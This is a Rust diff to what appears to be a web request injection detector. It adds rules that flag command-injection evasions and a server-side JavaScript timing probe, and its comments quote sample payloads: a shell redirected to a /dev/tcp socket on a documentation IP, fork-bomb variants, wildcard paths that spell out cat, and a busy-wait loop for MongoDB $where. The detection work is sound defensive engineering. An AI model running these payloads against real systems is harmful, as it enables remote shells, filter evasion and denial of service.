@@ -384,8 +384,14 @@ fn command(lower: &str, sink: &mut Sink) {
         sink.hit(Hit::new(Cmdi, rule, 5, 1, lower));
         return;
     }
-    // Bodies sent without a type keep `+` for spaces (`whxami|sh+``).
-    if lower.contains('+') && !lower.contains(' ') {
+    // Bodies sent without a type keep `+` for spaces (`whxami|sh+``), and payloads
+    // encoded once too often keep them beside separators (`&&+|+dir c:/`).
+    if lower.contains('+')
+        && (!lower.contains(' ')
+            || ["+|", "|+", "+&", "&+", "+;", ";+"]
+                .iter()
+                .any(|p| lower.contains(p)))
+    {
         let spaced = lower.replace('+', " ");
         if let Some(rule) = command_rule(&spaced) {
             sink.hit(Hit::new(Cmdi, rule, 5, 1, lower));
@@ -545,8 +551,9 @@ fn command_rule(lower: &str) -> Option<&'static str> {
             after.trim_start_matches([' ', '\t', '\n', '\r', '(', '{', '\'', '"', '\\']);
         if WRAPPERS.contains(word) {
             let wrapped = trimmed_after[word.len()..].trim_start();
-            // A wrapper run alone (`;env`, `|time`) is a command of its own.
-            if !next_word(wrapped).is_empty() {
+            // A wrapper run alone (`;env`, `|time`) or with its own options
+            // (`;env --version`) is a command of its own.
+            if !next_word(wrapped).is_empty() && !wrapped.starts_with('-') {
                 trimmed_after = wrapped;
                 word = next_word(trimmed_after);
             }
@@ -631,8 +638,11 @@ fn command_rule(lower: &str) -> Option<&'static str> {
             return Some("cmdi.separator_command");
         }
     }
-    if SHELL_SYNTAX.is_match(lower) {
+    if SHELL_SYNTAX.is_match(lower) || socket_redirect(lower) {
         return Some("cmdi.shell_syntax");
+    }
+    if let Some(rule) = shell_feature_rule(lower) {
+        return Some(rule);
     }
     if pipe_to_shell(lower) {
         return Some("cmdi.pipe_to_shell");
@@ -655,7 +665,12 @@ fn command_rule(lower: &str) -> Option<&'static str> {
         let body = &squeezed_fn[at + 3..];
         let name = &squeezed_fn[..at];
         let name = name.rsplit([';', '&', '|', ' ']).next().unwrap_or(name);
-        if !name.is_empty() && body.contains(&format!("{name}|{name}&")) {
+        // `:|:&`, or the function called twice with one call sent to the background
+        // (`f(){ f() & f(); }; f`).
+        let piped = body.contains(&format!("{name}|{name}&"));
+        let backgrounded = body.contains(&format!("{name}()&{name}()"))
+            || body.contains(&format!("{name}&{name}"));
+        if !name.is_empty() && (piped || backgrounded) {
             return Some("cmdi.fork_bomb");
         }
     }
@@ -672,7 +687,7 @@ fn command_rule(lower: &str) -> Option<&'static str> {
         }
     }
     // Globbed paths (`/???/c?t`, `/bin/c*`), as filter evasions.
-    if GLOB_PATHS.is_match(lower) {
+    if GLOB_PATHS.is_match(lower) || lower.split_whitespace().any(wildcard_path) {
         return Some("cmdi.glob_path");
     }
     if command_line(lower) {
@@ -721,6 +736,139 @@ fn command_rule(lower: &str) -> Option<&'static str> {
         return Some("cmdi.windows_batch");
     }
     None
+}
+
+/// Shell features no form field needs: the Shellshock function prefix, history
+/// expansion, a command word escaped past aliases and filters (`\ls`), and brace
+/// expansions whose words join into a command (`{l,-lh}s` runs `ls -lhs`).
+fn shell_feature_rule(lower: &str) -> Option<&'static str> {
+    let value = lower.trim();
+    // Bash imports a variable that starts with `() {` as a function and, unpatched, runs
+    // whatever follows its body (CVE-2014-6271).
+    if let Some(rest) = value.strip_prefix("()")
+        && rest.trim_start().starts_with('{')
+    {
+        return Some("cmdi.shellshock");
+    }
+    // `!-2`, `!-1!-2`, `!!!-1`: earlier commands re-run by their position in the history
+    // (`!!` alone is also an exclamation).
+    if value.contains("!-") && history_expansion(value) {
+        return Some("cmdi.history_expansion");
+    }
+    // `\ls`: the backslash makes the shell skip aliases, and slips past filters that look
+    // for the bare word.
+    if let Some(rest) = value.strip_prefix('\\') {
+        let word = next_word(rest);
+        let after = rest.strip_prefix(word).unwrap_or(" ");
+        if rest.starts_with(word)
+            && word.len() >= 2
+            && !word.contains(['\\', '/', '.'])
+            && is_command(word)
+            && (after.is_empty() || after.starts_with(' '))
+        {
+            return Some("cmdi.escaped_command");
+        }
+    }
+    if brace_expansion_command(value) {
+        return Some("cmdi.brace_expansion");
+    }
+    None
+}
+
+/// A value made only of history designators: `!!`, `!-N`.
+fn history_expansion(value: &str) -> bool {
+    let mut rest = value;
+    while !rest.is_empty() {
+        if let Some(r) = rest.strip_prefix("!!") {
+            rest = r;
+        } else if let Some(r) = rest.strip_prefix("!-") {
+            let digits = r.bytes().take_while(u8::is_ascii_digit).count();
+            if digits == 0 {
+                return false;
+            }
+            rest = &r[digits..];
+        } else {
+            return false;
+        }
+    }
+    true
+}
+
+/// A brace group with a prefix or suffix glued to it, whose expansion starts with a
+/// command or a globbed path: `{l,-lh}s` → `ls -lhs`, `{/?s?/?i?/c?t,}` → `/?s?/?i?/c?t`.
+fn brace_expansion_command(value: &str) -> bool {
+    let Some(open) = value.find('{') else {
+        return false;
+    };
+    let Some(len) = value[open..].find('}') else {
+        return false;
+    };
+    let inner = &value[open + 1..open + len];
+    if !inner.contains(',') || inner.contains([' ', '{', '$']) {
+        return false;
+    }
+    let prefix = value[..open]
+        .rsplit(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&'))
+        .next()
+        .unwrap_or_default();
+    let suffix_all = &value[open + len + 1..];
+    let suffix = suffix_all
+        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&'))
+        .next()
+        .unwrap_or_default();
+    let words: Vec<String> = inner
+        .split(',')
+        .map(|alternative| format!("{prefix}{alternative}{suffix}"))
+        .filter(|w| !w.is_empty())
+        .collect();
+    words.first().is_some_and(|first| {
+        (is_command(first) && (prefix.len() + suffix.len() > 0))
+            || wildcard_path(first)
+    })
+}
+
+/// An absolute path whose segments are mostly wildcards (`/?s?/?i?/c?t`, `/b??/c*t`): a
+/// program named without spelling its name, to pass word filters.
+fn wildcard_path(word: &str) -> bool {
+    let Some(path) = word.strip_prefix('/') else {
+        return false;
+    };
+    let segments: Vec<&str> = path.split('/').collect();
+    segments.len() >= 2
+        && segments.iter().all(|s| {
+            !s.is_empty()
+                && s.len() <= 8
+                && s.bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'?' | b'*' | b'[' | b']'))
+        })
+        && segments
+            .iter()
+            .filter(|s| s.contains(['?', '*']))
+            .count()
+            >= 2
+        && segments.last().is_some_and(|s| {
+            s.contains(['?', '*']) && s.len() <= 4 && s.bytes().any(|b| b.is_ascii_alphabetic())
+        })
+        && segments.iter().any(|s| s.contains('?'))
+}
+
+/// A redirection to a network socket through a variable holding `/dev`
+/// (`d=/dev; sh 0>$d/tcp/203.0.113.9/80`).
+fn socket_redirect(lower: &str) -> bool {
+    ["/tcp/", "/udp/"].iter().any(|proto| {
+        lower.match_indices(proto).any(|(at, _)| {
+            let before = &lower[..at];
+            let Some(dollar) = before.rfind('$') else {
+                return false;
+            };
+            let name = before[dollar + 1..].trim_matches(['{', '}']);
+            let port = lower[at + proto.len()..].split('/').nth(1).unwrap_or_default();
+            !name.is_empty()
+                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+                && before[..dollar].trim_end().ends_with(['>', '<', '&'])
+                && port.starts_with(|c: char| c.is_ascii_digit())
+        })
+    })
 }
 
 /// Whether `text` is itself a command line: a command with options, a path, a drive or an
@@ -1271,10 +1419,24 @@ fn javascript(lower: &str, decoded: &str, sink: &mut Sink) {
         };
     if NODE_CODE.is_match(squeezed.as_ref())
         || infinite_loop(&squeezed)
+        || busy_wait(&squeezed)
         || (base64_run(decoded, 16) && NODE_FUNCTION_BASE64.is_match(decoded))
     {
         sink.hit(Hit::new(JsInjection, "js.node_code", 5, 1, lower));
     }
+}
+
+/// `do{d2=new Date();}while(d2-d1<10000)`: a loop that spins until some time has passed,
+/// the timing probe of injections into server-side JavaScript (MongoDB `$where`).
+fn busy_wait(squeezed: &str) -> bool {
+    squeezed.contains("while(")
+        && (squeezed.contains("newdate(") || squeezed.contains("date.now("))
+        && squeezed.match_indices("while(").any(|(at, _)| {
+            let cond = squeezed[at + 6..].split(')').next().unwrap_or_default();
+            cond.contains('-')
+                && cond.contains(['<', '>'])
+                && cond.bytes().any(|b| b.is_ascii_digit())
+        })
 }
 
 /// `while(!false)`, `while(Infinity)`, `while(!![])`: a loop whose condition is a
